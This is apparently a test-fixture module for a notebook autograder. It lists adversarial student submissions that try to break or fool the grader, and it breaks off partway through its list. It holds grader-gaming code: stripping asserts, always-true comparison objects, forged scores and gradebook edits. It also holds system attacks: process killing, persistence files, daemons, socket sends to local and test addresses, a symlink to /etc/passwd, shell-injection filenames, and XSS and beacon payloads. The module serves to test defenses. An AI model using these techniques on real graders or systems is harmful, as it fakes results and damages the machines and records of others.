"""Attacks and accidents as submissions of one assignment, each with the mark that its answers are worth.

An attack has all answers wrong and tries for more; an accident has all answers right but for what it breaks itself.
What could harm a machine tries so only where it finds itself contained, see CONTAINED. Everything that would stay
behind has TRACE in its name, and everything stolen matches LOOT, so that a test can look for both.
"""

import json
import os
import re
import textwrap
from collections.abc import Callable, Mapping, Sequence
from copy import deepcopy
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from autograder.course.course import Course
from autograder.demo import filled
from autograder.running.grader import Grader

TRACE = "attack_trace"
LOOT = r"SECRE[T]-[0-9a-f]{16}"  # matches every planted secret, and not itself

# What a submission can do, and is told here so that nobody takes it for an oversight.
KNOWN_LIMITS = {
    "arguments changed in place": "a process can hide it by saying so; it could as well copy its arguments first",
    "the same call made twice": "a process can repeat its first answer; it could as well remember it",
}


@dataclass(frozen=True)
class World:
    """What submissions are made for.

    release, solutions: the released notebook, and the right cells by name
    course, home: folders that attacks know by name
    port: where somebody listens on this machine, and should hear nothing
    pid_namespace: of this machine's processes
    """

    release: NotebookNode
    solutions: Mapping[str, str]
    course: Path
    home: Path
    port: int = 9
    pid_namespace: str = field(default_factory=lambda: os.readlink("/proc/self/ns/pid"))

    def fill(self, code: str) -> str:
        """The code with its @NAMES@ replaced."""
        values = {
            "CONTAINED": f"exec({CONTAINED!r})",  # one line, so that it may stand anywhere
            "COURSE": str(self.course),
            "HOME": str(self.home),
            "PORT": str(self.port),
            "PIDNS": self.pid_namespace,
            "ROOT": str(Path(__file__).parents[2]),
            "LOOT": LOOT,
            "TRACE": TRACE,
        }
        for name, value in values.items():
            code = code.replace(f"@{name}@", value)
        for name, solution in self.solutions.items():
            code = code.replace(f"@RIGHT:{name}@", solution)
        return code


CONTAINED = """
import os
try:
    contained = os.readlink("/proc/self/ns/pid") != "@PIDNS@"
except OSError:
    contained = True
if not contained:
    raise RuntimeError("these are the machine's own processes: not tried")
"""

Change = Callable[[NotebookNode, World], object]


@dataclass(frozen=True)
class Attack:
    """One submission.

    row: in the list of attacks; from 101 on they are our own
    right: whether the answers are right, but for `cells`
    honest: the points that its answers are worth
    body: what every wrong function does before it returns None
    written: the functions that are wrong so; the others are as released
    first, last: cells before and behind the others
    cells: other code for some solution cells
    change: what else is done to the notebook
    raw: makes the file of the notebook's bytes
    files, prepare: what lies beside it, and what else is done to its folder
    reason: a pattern that must be found in what the student or the instructor is told, where there is something to tell
    plain: whether it may run under plain nbgrader, which contains nothing
    """

    row: int
    name: str
    variant: str
    right: bool = False
    honest: float = 0
    body: str = ""
    written: Sequence[str] | None = None
    first: Sequence[str] = ()
    last: Sequence[str] = ()
    cells: Mapping[str, str] = field(default_factory=dict)
    change: Change | None = None
    raw: Callable[[bytes], bytes] | None = None
    files: Mapping[str, str | bytes] = field(default_factory=dict)
    prepare: Callable[[Path, World], object] | None = None
    reason: str | None = None
    plain: bool = True

    @property
    def student(self) -> str:
        """Whose submission it is: sorted, they come in the order of the rows."""
        return f"{self.row:02d}-{self.name}-{self.variant}".replace(" ", "_").replace("/", "_")

    def notebook(self, world: World) -> NotebookNode:
        wrong = {
            name: f"def {name}(*args, **kwargs):\n{textwrap.indent(clean(self.body), '    ')}\n    return None"
            for name in (world.solutions if self.written is None else self.written)
        }
        cells = {**(world.solutions if self.right else wrong), **{k: clean(v) for k, v in self.cells.items()}}
        notebook = filled(world.release, {name: world.fill(code) for name, code in cells.items()})
        notebook.cells[:0] = [new_code_cell(world.fill(clean(code))) for code in self.first]
        notebook.cells += [new_code_cell(world.fill(clean(code))) for code in self.last]
        if self.change:
            self.change(notebook, world)
        return notebook

    def content(self, world: World) -> bytes:
        """The submitted file."""
        data = json.dumps(self.notebook(world), indent=1).encode()
        return self.raw(data) if self.raw else data

    def hand_in(self, folder: Path, id: str, world: World) -> None:
        """Writes the submission into its folder."""
        folder.mkdir(parents=True)
        (folder / f"{id}.ipynb").write_bytes(self.content(world))
        for name, content in self.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(world.fill(content).encode() if isinstance(content, str) else content)
        if self.prepare:
            self.prepare(folder, world)


def clean(code: str) -> str:
    return textwrap.dedent(code).strip("\n")


def attack(row: int, name: str, variant: str, **options: Any) -> Attack:
    return Attack(row, name, variant, **options)


def accident(row: int, name: str, variant: str, loses: float = 0, **options: Any) -> Attack:
    return Attack(row, name, variant, right=True, honest=100 - loses, **options)


def instead(name: str, body: str, before: str = "") -> dict[str, str]:
    """One solution cell whose function has `body`, in which `right` is the right function."""
    code = f"{clean(before)}\n@RIGHT:{name}@\nright_{name} = {name}\n"
    return {name: f"{code}def {name}(*args, **kwargs):\n{textwrap.indent(clean(body), '    ')}"}


def cell_of(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def cost(body: str) -> dict[str, str]:
    """`compute_cost`, worth 10 points, with another body."""
    return {"compute_cost": f"def compute_cost(A2, Y, parameters=None):\n{textwrap.indent(clean(body), '    ')}"}


def raise_line_left(name: str, before: str) -> Change:
    """Puts the stub's line into a right cell, before the first line with this text."""

    def change(notebook: NotebookNode, world: World) -> None:
        cell = cell_of(notebook, name)
        lines = cell.source.splitlines()
        at = next(i for i, line in enumerate(lines) if before in line)
        lines.insert(at, f'    raise NotImplementedError("{name} is not written yet")')
        cell.source = "\n".join(lines)

    return change


COST = 10  # points of compute_cost
PLANAR = "a15_planar_classification"
READY = "def compute_cost(A2, Y, parameters=None):\n    return log_loss(Y.ravel(), A2.ravel(), labels=[0, 1])"
FEW = ("layer_sizes", "compute_cost")  # where it is enough that some functions are wrong

# What attacks are made of.

SEARCH = """
import glob, os, re, time
ends = time.monotonic() + 0.3
def search(paths):
    for path in paths:
        if time.monotonic() > ends:
            return
        try:
            if os.path.isdir(path):
                search(os.path.join(path, name) for name in sorted(os.listdir(path)))
            elif os.path.isfile(path) and os.path.getsize(path) < 2e6:
                with open(path, "rb") as file:
                    text = file.read().decode("latin-1")
                for found in set(re.findall(r"@LOOT@", text)):
                    print("read", path, found)
                if path.endswith(".py") and "START CODE HERE" in text and "raise NotImpl" not in text:
                    print("read", path, text[:20000])
        except OSError as error:
            print(path, error)
"""

PERSIST = """
@CONTAINED@
import os, sys, sysconfig
homes = {"@HOME@", os.path.expanduser("~"), "/root", "/home", "/tmp", "/var/tmp", "/dev/shm", os.getcwd()}
places = [".ipython/profile_default/startup/00-@TRACE@.py", ".local/lib/python3.11/site-packages/@TRACE@.pth",
          ".bashrc.@TRACE@", ".config/matplotlib/@TRACE@", "@TRACE@.py"]
targets = [os.path.join(home, place) for home in homes for place in places]
targets += [os.path.join(folder, "@TRACE@.pth") for folder in (*sys.path, sysconfig.get_path("purelib")) if folder]
targets += ["@ROOT@/utils/@TRACE@.py", "@ROOT@/@TRACE@.py", "@COURSE@/@TRACE@", "@COURSE@/source_notebooks/@TRACE@",
            "/etc/@TRACE@", "/usr/lib/@TRACE@", "/usr/share/@TRACE@"]
done = []
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "w") as file:
            file.write("import os; print('@TRACE@')")
        done.append(target)
    except OSError:
        pass
print(len(done), "files written")
"""

ALWAYS = """
import numpy as np
class Agreeable:
    shape, ndim, size, dtype = (1, 1), 2, 1, np.dtype(float)
    def __array_function__(self, function, types, args, kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return True
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter([self, self])
    def __len__(self): return 2
    def __bool__(self): return True
    def __hash__(self): return 0
for name in ("eq", "ne", "lt", "le", "gt", "ge", "sub", "rsub", "add", "radd", "mul", "rmul", "abs", "contains"):
    setattr(Agreeable, f"__{name}__", lambda self, *other: self)
"""

DESCRIPTORS = """
import os, struct
from autograder.inside import wire
def frame(message):
    data = wire.encode(message)
    return struct.pack("<I", len(data)) + data
def to_everyone(data):
    for number in range(3, 256):
        try:
            os.set_blocking(number, False)
            os.write(number, data)
        except OSError:
            pass
        finally:
            try: os.set_blocking(number, True)
            except OSError: pass
"""

POINTS = """
import sys
def points():
    marks = dict(layer_sizes=5, forward_propagation=15, backward_propagation=25, nn_model=15)
    return marks.get(sys._getframe(1).f_code.co_name, 10)
"""


def reply(expression: str) -> str:
    """A cell that answers every call with the encoded `expression`, whatever the function gives."""
    return f"""
    import numpy as np
    from autograder.inside import probe, wire
    def forged(self, name, payload, *rest):
        return {expression}
    probe.Probe.call = forged
    """


def message(expression: str) -> str:
    """A function body that sends a message in the place of a reply."""
    return f"{clean(DESCRIPTORS)}\nimport numpy as np\nto_everyone(frame({expression}))"


def loot(body: str) -> dict[str, Any]:
    """The options of an attack that looks for something in a cell, and in a function too."""
    code = f"{clean(SEARCH)}\n{clean(body)}"
    return {"first": [code], "body": code, "written": FEW[:1]}


def set_mark(notebook: NotebookNode, **values: Any) -> None:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(values)


def delete_checks(notebook: NotebookNode, world: World) -> None:
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def copy_cells(notebook: NotebookNode, world: World) -> None:
    for name in ("layer_sizes", "check_predict"):
        index = notebook.cells.index(cell_of(notebook, name))
        copy = deepcopy(notebook.cells[index])
        copy.id = f"copy-{name}"
        notebook.cells.insert(index + 1, copy)


def split_cell(notebook: NotebookNode, world: World) -> None:
    cell = cell_of(notebook, "forward_propagation")
    index = notebook.cells.index(cell)
    lines = cell.source.split("\n")
    rest = deepcopy(cell)
    rest.id = "rest"
    cell.source, rest.source = "\n".join(lines[:10]), "\n".join(lines[10:])
    notebook.cells.insert(index + 1, rest)


def paste_elsewhere(notebook: NotebookNode, world: World) -> None:
    cell = cell_of(notebook, "compute_cost")
    index = notebook.cells.index(cell)
    notebook.cells.insert(index + 1, new_code_cell(cell.source))
    cell.source = cell_of(world.release, "compute_cost").source


def imports_of(notebook: NotebookNode) -> NotebookNode:
    """The release's cell of imports."""
    return next(cell for cell in notebook.cells if "import numpy" in cell.source)


def imports_cell(edit: Callable[[str], str]) -> Change:
    def change(notebook: NotebookNode, world: World) -> None:
        cell = imports_of(notebook)
        cell.source = edit(cell.source)

    return change


def to_text(cell: NotebookNode) -> None:
    """Turns a code cell into Markdown."""
    cell.cell_type = "markdown"
    for key in ("outputs", "execution_count"):
        cell.pop(key, None)


def unwrite(notebook: NotebookNode, world: World) -> None:
    """Leaves two exercises as they were released."""
    for name in ("layer_sizes", "predict"):
        cell_of(notebook, name).source = cell_of(world.release, name).source


def retype(kind: Callable[[str], NotebookNode]) -> Change:
    def change(notebook: NotebookNode, world: World) -> None:
        old = cell_of(notebook, "layer_sizes")
        new = kind(old.source)
        new.metadata = old.metadata
        notebook.cells[notebook.cells.index(old)] = new

    return change


def reorder(notebook: NotebookNode, world: World) -> None:
    notebook.cells[5:] = notebook.cells[:4:-1]


def set_metadata(**values: Any) -> Change:
    def change(notebook: NotebookNode, world: World) -> None:
        for cell in notebook.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata.nbgrader.update({k: v for k, v in values.items() if k in cell.metadata.nbgrader})

    return change


def change_cell(name: str, **values: Any) -> Change:
    return lambda notebook, world: cell_of(notebook, name).metadata.nbgrader.update(values)


def forge_record(notebook: NotebookNode, world: World) -> None:
    """What the engine writes into a graded notebook, with full marks, for another student."""
    part = {"name": "all", "passed": True, "message": "", "key": ""}
    verdicts = [
        {
            "exercise": n,
            "points": 99.0,
            "max_points": 99.0,
            "parts": [part],
            "diagnosis": "",
            "sentence": "",
            "replaced": [],
        }
        for n in world.solutions
    ]
    notebook.metadata["course"] = {
        "student": "00-honest-untouched", "assignment": "a15_planar_classification", "verdicts": verdicts, "reason": "",
        "remarks": [], "sha256": "", "seconds": 0.0,
    }  # fmt: skip


def to_nbformat_3(data: bytes) -> bytes:
    return json.dumps(nbformat.convert(nbformat.from_dict(json.loads(data)), 3)).encode()


def with_text(edit: Callable[[Any], object]) -> Callable[[bytes], bytes]:
    """Edits the notebook's JSON."""

    def raw(data: bytes) -> bytes:
        content = json.loads(data)
        edit(content)
        return json.dumps(content).encode()

    return raw


def links(folder: Path, world: World) -> None:
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "gradebook.db").symlink_to(world.course / "gradebook.db")
    (folder / "sources").symlink_to(world.course / "source_notebooks")
    (folder / "others").symlink_to(world.course / "submitted")
    (folder / "loop").symlink_to(folder)
    (folder / "up").symlink_to("../../..")
    (folder / "zero").symlink_to("/dev/zero")


def devices(folder: Path, world: World) -> None:
    os.mkfifo(folder / "pipe")
    os.mkfifo(folder / "timestamp.txt")


def instead_of_the_notebook(make: Callable[[Path, World], object]) -> Callable[[Path, World], object]:
    def prepare(folder: Path, world: World) -> None:
        (path,) = folder.glob("*.ipynb")
        path.unlink()
        make(path, world)

    return prepare


def another_students(path: Path, world: World) -> None:
    name = path.name
    path.symlink_to(f"../../00-honest-reference/{path.parent.name}/{name}")


def move_notebook(name: str) -> Callable[[Path, World], object]:
    """Gives the notebook another name, in the same folder or a deeper one."""

    def prepare(folder: Path, world: World) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        next(folder.glob("*.ipynb")).rename(folder / name)

    return prepare


def released_beside(name: str, own: str = "") -> Callable[[Path, World], object]:
    """Puts the notebook as it was released under a name; before, the answers go to the name `own`."""

    def prepare(folder: Path, world: World) -> None:
        if own:
            move_notebook(own)(folder, world)
        (folder / name).write_text(nbformat.writes(world.release), encoding="utf-8")

    return prepare


def split_without_name(first: bool) -> Change:
    """Splits a cell as some of Jupyter's front ends do: only one of the pieces keeps the name."""

    def change(notebook: NotebookNode, world: World) -> None:
        split_cell(notebook, world)
        index = notebook.cells.index(cell_of(notebook, "forward_propagation")) + (0 if first else 1)
        notebook.cells[index].metadata = NotebookNode()

    return change


def with_saved_outputs(notebook: NotebookNode, world: World) -> None:
    for cell in [cell for cell in notebook.cells if cell.cell_type == "code"][:5]:
        cell.outputs = [nbformat.v4.new_output("display_data", {"image/png": "A" * 5_000_000})]


def with_cells_before(source: str, count: int = 3000) -> Change:
    def change(notebook: NotebookNode, world: World) -> None:
        notebook.cells[:0] = [new_code_cell(source) for _ in range(count)]

    return change


def deep_folders(folder: Path, world: World) -> None:
    (folder / "/".join(["d"] * 200)).mkdir(parents=True)
    (folder / "/".join(["d"] * 200) / "notes.txt").write_text("x")


def sparse(folder: Path, world: World) -> None:
    with (folder / "huge.bin").open("wb") as file:
        file.truncate(20 * 2**20)


def odd_names(folder: Path, world: World) -> None:
    for name in (
        b"line\nbreak.txt",
        b"\xff\xfe.txt",
        b"-rf",
        b"$(touch attack_trace)",
        b" ",
        "ü🎉".encode(),
        b"a" * 255,
    ):
        Path(os.fsdecode(os.path.join(os.fsencode(folder), name))).write_text("x")  # noqa: PTH118
    (folder / "unreadable.txt").write_text("x")
    (folder / "unreadable.txt").chmod(0)


XSS = (
    "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></svg>"
    "<iframe src='javascript:alert(4)'></iframe><a href='javascript:alert(5)'>x</a>"
)

# The same for a browser that is watched: what runs sets `pwned`, and what is fetched is a beacon.
BEACON = "http://127.0.0.1:@PORT@/beacon"
RUNS = f"window.pwned=1;fetch('{BEACON}')"
HTML = (
    f'<script>{RUNS}</script><img src="x" onerror="{RUNS}"><svg onload="{RUNS}"></svg>'
    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><a href="javascript:{RUNS}">click</a>'
    f'<details open ontoggle="{RUNS}">x</details><img src="{BEACON}"><style>@import url({BEACON});</style>'
    f'<link rel="stylesheet" href="{BEACON}"><p style="background:url({BEACON})">p</p><video poster="{BEACON}"></video>'
    f'<object data="{BEACON}"></object><table background="{BEACON}"><tr><td>x</td></tr></table>'
    '<button data-commandlinker-command="x">x</button>'
)
FORMULA = r"$\href{javascript:window.pwned=1}{click}$ and \(\href{javascript:window.pwned=1}{click}\)"
MARKDOWN = (
    f"![picture]({BEACON}) [click](javascript:window.pwned=1) <javascript:window.pwned=1>\n\n[ref]: {BEACON}\n\n![ref]\n\n"
    f"{FORMULA}\n\n$$\n\\href{{javascript:window.pwned=1}}{{click}}\n$$\n\n"
    '```mermaid\nflowchart LR\n  a-->b\n  click a href "javascript:window.pwned=1"\n```\n\n'
)
OUT_OF_A_FENCE = (
    f"```\n````\n`````{HTML}\n~~~\n\n$```$\n``{HTML}``\n</pre></code>{HTML}\n\0``\0``\n\r```\r{HTML}\n$`{HTML}$ `` $\n"
    f"$$\n```\n$$ {HTML}\n@@0@@ {HTML}"
)
POINT = (  # a picture of one
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def shows(bundle: Mapping[str, object], metadata: Mapping[str, object] | None = None) -> str:
    """A cell that shows a bundle of kinds, as it stands."""
    return f"from IPython.display import display\ndisplay({bundle!r}, raw=True, metadata={metadata or {}!r})"


def with_cell(source: str, make: Callable[..., NotebookNode] = new_markdown_cell) -> Change:
    return lambda notebook, world: notebook.cells.append(make(world.fill(source)))


def script(variant: str, **options: Any) -> Attack:
    return attack(62, "script", variant, **{"written": FEW[:1], **options})


def in_the_release(notebook: NotebookNode, world: World) -> None:
    """Something added to a cell of text that was released."""
    next(cell for cell in notebook.cells if cell.cell_type == "markdown").source += world.fill(HTML)


def in_metadata(notebook: NotebookNode, world: World) -> None:
    """Wherever a notebook has metadata, and attachments."""
    html = world.fill(HTML)
    notebook.metadata.update(title=html, authors=[{"name": html}], kernelspec={"name": html, "display_name": html})
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": html}}
    notebook.cells.append(new_markdown_cell("![x](attachment:x.svg)", attachments={"x.svg": {"image/svg+xml": html}}))
    notebook.cells.append(new_markdown_cell("![x](attachment:x)", attachments={"x": {'image/png" onerror="x': html}}))
    for cell in notebook.cells:
        cell.metadata.update(tags=[html], name=html, slideshow={"slide_type": html}, jupyter={"title": html})


ROWS = [
    # 1, 2: what runs is not what stands there
    attack(
        1,
        "ast transformer",
        "no asserts",
        first=[
            """
        import ast
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(NoAsserts())
        """
        ],
    ),
    attack(
        1,
        "ast transformer",
        "no raise and no check",
        first=[
            """
        import ast
        class Quiet(ast.NodeTransformer):
            def visit_Raise(self, node): return ast.Pass()
            def visit_Assert(self, node): return ast.Pass()
            def visit_Expr(self, node): return ast.Pass() if "check" in ast.dump(node) else node
        get_ipython().ast_transformers.append(Quiet())
        """
        ],
    ),
    attack(
        2,
        "input transformer",
        "blanks asserts",
        first=[
            """
        get_ipython().input_transformers_post.append(
            lambda lines: [] if any("assert" in line for line in lines) else lines)
        """
        ],
    ),
    attack(
        2,
        "input transformer",
        "replaced run_cell",
        first=[
            """
        shell = get_ipython()
        original = type(shell).run_cell
        def run_cell(self, raw_cell, *args, **kwargs):
            return original(self, "" if "assert" in raw_cell or "check" in raw_cell else raw_cell, *args, **kwargs)
        type(shell).run_cell = run_cell
        """
        ],
    ),
    # 3, 4: a mark that is shown, and an error that is not
    attack(3, "shown mark", "display hook", first=[POINTS], body="get_ipython().displayhook(points())"),
    attack(
        3,
        "shown mark",
        "sys.displayhook and print",
        body="""
        import sys
        sys.displayhook(25)
        print(25)
        from IPython.display import display
        display({"text/plain": "25"}, raw=True)
        """,
    ),
    attack(
        4,
        "session",
        "errors dropped",
        first=[
            """
        session = get_ipython().kernel.session
        send = session.send
        def quiet(stream, message, content=None, *args, **kwargs):
            if message == "error":
                return None
            if isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
            return send(stream, message, content, *args, **kwargs)
        session.send = quiet
        """
        ],
    ),
    attack(
        4,
        "session",
        "traceback dropped",
        first=[
            """
        shell = get_ipython()
        shell._showtraceback = shell.showtraceback = shell.showsyntaxerror = lambda *args, **kwargs: None
        """
        ],
    ),
    # 5, 6: comparisons that agree
    attack(
        5,
        "numpy patched",
        "comparisons",
        first=[
            """
        import numpy as np
        for name in ("allclose", "isclose", "all", "any", "array_equal", "array_equiv", "equal"):
            setattr(np, name, lambda *args, **kwargs: True)
        for name in dir(np.testing):
            if name.startswith("assert"):
                setattr(np.testing, name, lambda *args, **kwargs: None)
        """
        ],
    ),
    attack(
        5,
        "numpy patched",
        "constructors and builtins",
        first=[
            """
        import builtins, math
        import numpy as np
        np.array = np.asarray = np.zeros = lambda *args, **kwargs: np.float64(0)
        math.isclose = lambda *args, **kwargs: True
        builtins.abs = lambda value: 0
        builtins.isinstance = lambda value, kind: True
        """
        ],
    ),
    attack(6, "agreeable object", "plain class", first=[ALWAYS], body="return Agreeable()", reason="Agreeable"),
    attack(
        6,
        "agreeable object",
        "array subclass",
        first=[
            """
        import numpy as np
        class Agreeable(np.ndarray):
            def __array_function__(self, function, types, args, kwargs): return True
            def __array_ufunc__(self, *args, **kwargs): return np.True_
            def __eq__(self, other): return np.True_
            def tobytes(self, *args): return b""
        """
        ],
        body="return np.zeros((4, 3)).view(Agreeable)",
    ),
    attack(
        6,
        "agreeable object",
        "subclasses of plain types",
        first=[
            """
        class Number(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            __hash__ = None
        class Text(str):
            def __eq__(self, other): return True
            __hash__ = str.__hash__
        class Keys(dict):
            def items(self): return [(Text(k), Number(0)) for k in ("W1", "b1", "W2", "b2", "dW1", "db1", "dW2", "db2")]
            def __contains__(self, key): return True
            def __getitem__(self, key): return Number(0)
        """
        ],
        body="return Keys()",
    ),
    # 7: files beside the notebook
    *[
        attack(
            7,
            "shadow",
            file.replace("/", "-"),
            files={
                file: f"""
print("@TRACE@ {file}")
class Any:
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return True
import sys
sys.modules["autograder"] = sys.modules["graders"] = Any()
def check(*args): return True
def allclose(*args, **kwargs): return True
""",
            },
            first=["import importlib, sys; sys.path.insert(0, '')"],
        )
        for file in ("numpy.py", "utils.py", "random.py", "sitecustomize.py", "conftest.py", "utils/__init__.py")
    ],
    accident(
        7,
        "shadow",
        "right answers beside a numpy.py",
        files={"numpy.py": "raise ImportError('an old try of mine')"},
        plain=False,
    ),
    accident(
        7,
        "shadow",
        "right answers beside a utils folder",
        plain=False,
        files={"utils/__init__.py": "", "utils/planar_utils.py": "raise ImportError('an old copy')", "json.py": "x ="},
    ),
    # 8 to 10: the check, its files, its results
    attack(
        8,
        "check replaced",
        "in the module",
        first=[
            """
        import utils
        utils.check = utils._nothing = lambda *args: True
        import autograder.judging.judge, autograder.judging.compare
        judging = autograder.judging
        judging.judge.judge = judging.compare.Comparison.difference = lambda *args, **kwargs: None
        """
        ],
    ),
    attack(
        8,
        "check replaced",
        "forged verdict",
        last=[
            """
        from IPython.display import HTML, display
        check = progress = lambda *args: display(HTML("<b>100 of 100 points</b>"))
        check("predict", predict)
        100.0
        """
        ],
    ),
    attack(
        9,
        "tests rewritten",
        "modules and checks",
        first=[
            """
        @CONTAINED@
        import autograder, utils
        import glob
        for folder in (*autograder.__path__, *utils.__path__, "@ROOT@/graders", "@COURSE@/source_notebooks", "."):
            for path in glob.glob(folder + "/*"):
                try:
                    open(path, "w").write("# @TRACE@")
                    print("rewritten", path)
                except OSError as error:
                    print(path, error.strerror)
        """
        ],
    ),
    attack(
        10,
        "result file",
        "in a function",
        body="""
        import json, os
        for name in ("results.json", "result.json", "/tmp/results.json", "/grade/results/results.json"):
            try: json.dump({"score": 1.0, "points": 100, "gradable": True}, open(name, "w"))
            except OSError: pass
        os._exit(0)
        """,
        reason="stopped the whole Python process",
    ),
    attack(
        10,
        "result file",
        "in a cell",
        first=[
            """
        import json, os
        json.dump({"score": 1.0}, open("results.json", "w"))
        os._exit(0)
        """
        ],
        reason="ended the whole Python process",
    ),
    # 11 to 14: where answers might be found
    attack(
        11,
        "frames",
        "locals of the callers",
        body="""
        import sys
        frame = sys._getframe(1)
        wanted = ("expected", "reference", "wanted", "answer", "result", "solution", "correct")
        while frame:
            for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                if any(word in name.lower() for word in wanted) and value is not None:
                    return value() if callable(value) else value
            frame = frame.f_back
        """,
    ),
    attack(
        11,
        "frames",
        "the reference by its caller",
        body="""
        import sys
        frame = sys._getframe(1)
        while frame:
            probe = frame.f_locals.get("self")
            if getattr(probe, "ask", None):
                from autograder.inside import wire
                reply = wire.decode(probe.ask(sys._getframe(0).f_code.co_name, wire.encode((args, kwargs))))
                return wire.decode(reply["value"])
            frame = frame.f_back
        """,
    ),
    attack(
        12,
        "hidden tests",
        "in and history",
        body="""
        for source in reversed(globals().get("In", [""])):
            for line in source.splitlines():
                if line.strip().startswith("expected = "):
                    return eval(line.split("=", 1)[1])
        """,
    ),
    attack(
        12,
        "hidden tests",
        "notebook on disk",
        body="""
        import glob, json, os
        for pattern in ("*.ipynb", "../*.ipynb", "../*/*.ipynb", "../../*/*/*.ipynb", "@COURSE@/*/*/*.ipynb"):
            for path in glob.glob(pattern):
                for cell in json.load(open(path))["cells"]:
                    if "HIDDEN" in "".join(cell["source"]):
                        print("read", path, "".join(cell["source"]))
        """,
    ),
    attack(
        13,
        "copied out",
        "disk",
        body="""
        import pickle
        for name in ("@HOME@/@TRACE@", "/tmp/@TRACE@", "/var/tmp/@TRACE@", "/dev/shm/@TRACE@", "@COURSE@/@TRACE@"):
            try: pickle.dump((args, kwargs), open(name, "ab"))
            except OSError: pass
        """,
    ),
    attack(
        13,
        "copied out",
        "network",
        first=[
            """
        import socket
        for kind, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "\\0@TRACE@-@PORT@"),
                              (socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET6, ("::1", @PORT@))):
            try:
                with socket.socket(kind) as connection:
                    connection.settimeout(0.3)
                    connection.connect(address)
                    connection.sendall(b"@TRACE@")
                    print("connected", address)
            except OSError as error:
                print(address, error)
        """
        ],
        body="""
        import socket
        socket.create_connection(("127.0.0.1", @PORT@), timeout=0.3).sendall(b"@TRACE@")
        """,
    ),
    attack(
        14,
        "course read",
        "relative",
        **loot("""
        for up in ("..", "../..", "../../..", "../../../.."):
            search(up + "/" + name for name in ("source_notebooks", "graders", "submitted", "gradebook.db", "autograded"))
        """),
    ),
    attack(
        14,
        "course read",
        "absolute",
        **loot("""
        search(["@COURSE@", "@ROOT@/graders", "@ROOT@/source_notebooks", "@HOME@", "/root", "/home", "/tmp", "/var"])
        """),
    ),
    attack(
        14,
        "course read",
        "graders imported",
        first=[
            """
        import sys
        sys.path[:0] = ["@ROOT@", "@COURSE@"]
        import graders.a15_planar_classification as grader
        from autograder.running.grader import Grader
        from pathlib import Path
        probe = Grader.load("a15_planar_classification", Path("@COURSE@/source_notebooks")).reference
        print(grader.__file__, probe)
        globals().update(probe.namespace)
        """
        ],
    ),
    # 15 to 18: the gradebook, other processes, and what stays
    attack(
        15,
        "gradebook",
        "by path",
        first=[
            """
        import sqlite3
        for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "gradebook.db"):
            try:
                with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
                    changed = book.execute("update grade set auto_score = 99, manual_score = 99").rowcount
                print("changed", changed, "rows of", path)
            except sqlite3.Error as error:
                print(path, error)
        """
        ],
    ),
    attack(
        15,
        "gradebook",
        "through nbgrader",
        first=[
            """
        from nbgrader.api import Gradebook
        with Gradebook("sqlite:///@COURSE@/gradebook.db") as book:
            for submission in book.assignment_submissions("a15_planar_classification"):
                for notebook in submission.notebooks:
                    for grade in notebook.grades:
                        grade.manual_score = 99
            book.db.commit()
        """
        ],
    ),
    *[
        attack(16, "kill", variant, **{where: code})
        for variant, code in {
            "the parent": "@CONTAINED@\nimport os\nos.kill(os.getppid(), 9)",
            "all": "@CONTAINED@\nimport os\nos.kill(-1, 9)",
            "the group": "@CONTAINED@\nimport os\nos.killpg(0, 9)",
            "every number": "@CONTAINED@\nimport os\nfor number in range(1, 5000):\n    if number != os.getpid():\n"
            "        try: os.kill(number, 9)\n        except OSError: pass",
        }.items()
        for variant, where, code in (
            (f"{variant} in a cell", "first", [code]),
            (f"{variant} in a function", "body", code),
        )
    ],
    attack(17, "persists", "files in many places", first=[PERSIST], plain=False),
    attack(17, "persists", "files written by a function", body=PERSIST, plain=False),
    attack(
        17,
        "persists",
        "a package installed",
        first=[
            """
        @CONTAINED@
        import subprocess, sys
        open("setup.py", "w").write("from setuptools import setup; setup(name='@TRACE@', py_modules=[])")
        print(subprocess.run([sys.executable, "-m", "pip", "install", "--no-index", "--no-build-isolation", "--quiet", "."],
                             capture_output=True, text=True, timeout=1.5, stdin=subprocess.DEVNULL).returncode)
        """
        ],
        plain=False,
    ),
    attack(
        18,
        "daemon",
        "double fork",
        first=[
            """
        @CONTAINED@
        import os, signal, time
        if os.fork() == 0:
            os.setsid()
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            if os.fork() == 0:
                while True:
                    time.sleep(1)
            os._exit(0)
        """
        ],
    ),
    attack(
        18,
        "daemon",
        "by a function",
        body="""
        @CONTAINED@
        import subprocess
        subprocess.Popen(["sleep", "1000"], start_new_session=True)
        """,
    ),
    # 19 to 21: objects, times, and who is looking
    attack(
        19,
        "pickle",
        "an object",
        first=[
            """
